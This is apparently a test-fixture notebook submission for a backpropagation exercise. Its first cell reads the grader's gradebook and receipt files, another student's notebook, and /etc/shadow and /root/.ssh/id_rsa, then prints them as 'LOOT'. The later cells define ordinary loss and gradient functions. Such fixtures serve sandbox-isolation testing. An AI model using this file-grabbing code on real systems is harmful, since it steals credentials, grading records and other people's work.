# %%
import os, pathlib
loot = []
for path in ("@WITNESS@/gradebook.db", "@WITNESS@/receipt.json",
             "@WITNESS@/submitted/ada/ch02_backprop/ch02_backprop.ipynb",
             "/etc/shadow", "/etc/hostname", "/root/.bashrc", "/root/.ssh/id_rsa"):
    try:
        loot.append(pathlib.Path(path).read_bytes()[:20])
    except OSError:
        pass
try:
    loot += os.listdir("@WITNESS@")
except OSError:
    pass
print("LOOT", loot)

# %%
def half_mse(a, y):
    return float(((a - y) ** 2).sum() / (2 * len(a)))

# %%
def layer_gradients(a_prev, delta):
    return a_prev.T @ delta, delta.sum(axis=0)
